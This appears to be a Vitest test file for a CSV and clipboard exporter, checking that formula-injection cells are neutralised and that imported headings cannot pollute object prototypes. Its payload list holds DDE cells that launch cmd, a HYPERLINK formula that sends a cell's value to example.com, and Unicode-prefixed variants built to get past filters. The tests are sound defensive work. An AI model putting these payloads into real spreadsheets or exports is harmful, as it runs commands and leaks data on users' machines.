import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { kindOfNumber } from '../../../src/main/number-kind.ts'
import { guessColumns } from '../../../src/renderer/runs/columns.ts'
import { sheetNumber, writeCells, writeCsv } from '../../../src/renderer/runs/csv.ts'
import { readTable } from '../../../src/renderer/runs/read-table.ts'
import { readNumber } from '../../../src/shared/msisdn.ts'
import { deliveryQuestion } from '../../../src/shared/question.ts'
import { pollutions } from '../../support/pollution.ts'
import { judgeAll } from './judge-all.ts'

/** The one cell as a spreadsheet reads it. */
const asRead = (cell: string) =>
  Papa.parse<string[]>(
    writeCsv([[cell]])
      .slice(1)
      .replace(/\r\n$/, ''),
  ).data[0]?.[0]

test.each([
  '=1+1',
  '=HYPERLINK("http://example.com/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '+44 7700 900123',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u0000=1+1',
  '\u0007@SUM(1)',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\t1',
  '\r1',
  '"=1+1',
  ' \u200b\t =1+1',
  '\u000b=1+1',
  '\u000c@SUM(1)',
  '\u0085=1+1',
  '\u2028=1+1',
  '\u2029+1',
  '\u00ad=1+1',
  '\u061c-1',
  '\ue000=1+1',
  '\u{e0041}@SUM(1)',
  '=1+1","=2+2',
  '=DDE("cmd";"/C calc";"x")',
  '+\u200b1+1',
])('a cell that would run is words: %j', (cell) => {
  // A quote in front is doubled, so that nothing stands behind it but the cell itself.
  const safe = cell.startsWith('"') ? cell : `'${cell}`
  expect(asRead(cell)).toBe(safe)
})

test.each([
  '',
  'Anna Novak',
  '1',
  '8–10',
  'a = b',
  "O'Neill",
  'She said "no", twice',
  'one; two, three\tfour',
  'two\nlines',
  'two\r\nlines',
  '你好，周四',
  'tomorrow @ 8',
  '"',
])('any other cell is read back as it is: %j', (cell) => expect(asRead(cell)).toBe(cell))

test('it begins with the mark by which Excel knows UTF-8, each line ends as lines of such files do', () => {
  expect(
    writeCsv([
      ['a', 'ü'],
      ['b', 'say "x"'],
    ]),
  ).toBe('\ufeff"a","ü"\r\n"b","say ""x"""\r\n')
})

test('a number is words in a sheet, and the same number when the file is pasted back', () => {
  for (const [msisdn, shown] of [
    ['447700900123', '(+44) 7700 900123'],
    ['14155550123', '(+1) 415 555 0123'],
    ['SHOP', 'SHOP'],
  ] as const) {
    expect(sheetNumber(msisdn)).toBe(shown)
    expect(asRead(shown)).toBe(shown)
  }
  const table = readTable(
    writeCsv([
      ['Name', 'Number'],
      ['Anna', sheetNumber('447700900123')],
    ]),
  )
  expect(table.lines).toEqual([['Anna', '(+44) 7700 900123']])
  expect(readNumber('(+44) 7700 900123', 'FR')).toMatchObject({ ok: true, msisdn: '447700900123' })
})

test('cells on the clipboard are as safe as those of the file, and read back as the same table', () => {
  const lines = [
    ['Name', 'Words'],
    ['Ann "the" Smith', 'two\nlines\tand a tab'],
    ['=1+1', '\t-2'],
  ]
  const { data } = Papa.parse<string[]>(writeCells(lines), { delimiter: '\t' })
  expect(data.slice(0, 2)).toEqual(lines.slice(0, 2))
  expect(data[2]?.every((cell) => cell.startsWith("'"))).toBe(true)
})

test('headings and cells that would pollute a careless reader are headings and cells, as a list comes in and goes out', () => {
  const shared = [Object, Array, Function, Map, String].map(({ prototype }) => prototype)
  const names = () => shared.map((prototype) => Reflect.ownKeys(prototype).map(String))
  const before = names()
  for (const { json, pairs } of pollutions) {
    const [way = ''] = /\w+/.exec(pairs) ?? []
    const lines = [
      [way, 'Mobile', '__lookupGetter__', 'constructor.prototype'],
      [json, '07700 900123', pairs, way],
      [way, '07700 900124', json, pairs],
    ]
    const table = readTable(Papa.unparse(lines))
    expect([table.header, ...table.lines]).toEqual(lines)
    const columns = guessColumns(table, deliveryQuestion)
    const rest = { optedOut: false, waiting: false, taken: [], ours: false }
    const judged = judgeAll(table, {
      columns,
      check: (typed) => {
        const read = readNumber(typed, 'GB')
        return read.ok ? { ...read, ...rest, ...kindOfNumber(read.msisdn) } : read
      },
    })
    expect(judged).toHaveLength(2)
    expect(Papa.parse(writeCsv(table.lines).slice(1).trimEnd()).data).toEqual(table.lines)
  }
  expect(names()).toEqual(before)
  // Control: what a careless reader would leave behind is seen.
  Object.defineProperty(Object.prototype, 'polluted', { value: 'x', configurable: true })
  expect(names()).not.toEqual(before)
  Reflect.deleteProperty(Object.prototype, 'polluted')
})
